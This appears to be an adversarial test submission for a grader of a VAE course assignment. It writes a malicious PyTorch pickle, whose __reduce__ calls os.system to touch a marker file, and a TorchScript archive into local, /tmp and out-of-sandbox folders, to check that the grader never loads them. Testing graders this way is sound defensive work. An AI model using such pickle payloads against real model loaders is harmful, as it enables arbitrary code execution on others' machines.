"""A vae.py that plants model files for the grader to load: a .pt whose pickle runs a command
when unpickled and a TorchScript archive (code), in its work directory, /tmp and every host
folder it can name. The grader loads no file a submission writes (its threshold trains the
course's own VAE in the grader's process; a child sends back arrays only), and planting outside
the sandbox fails. Its holes are honest, so it keeps exactly their points."""
import os

import torch

MARK = "__OUTSIDE__/payload-ran"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARK}",))


class Scripted(torch.nn.Module):
    def forward(self, x):
        return x


def _pickle(path):
    torch.save({"model": Payload()}, path)


def _script(path):
    torch.jit.save(torch.jit.script(Scripted()), path)


planted = []
for folder in (".", "/tmp", "..", "__ROOT__", "__ROOT__/assignments/vae", "__OUTSIDE__"):
    for name, save in (("model.pt", _pickle), ("scripted.pt", _script)):
        path = os.path.join(folder, name)
        try:
            save(path)
            planted.append(path)
        except Exception as exc:  # noqa: BLE001
            print("could not plant", path, "-", type(exc).__name__)
print("planted:", planted)


def reparametrize(mean, sd):
    return mean + sd * torch.randn_like(sd)


def kl_divergence(mean, sd):
    return 0.5 * (mean ** 2 + sd ** 2 - 1 - torch.log(sd ** 2)).sum(dim=-1)
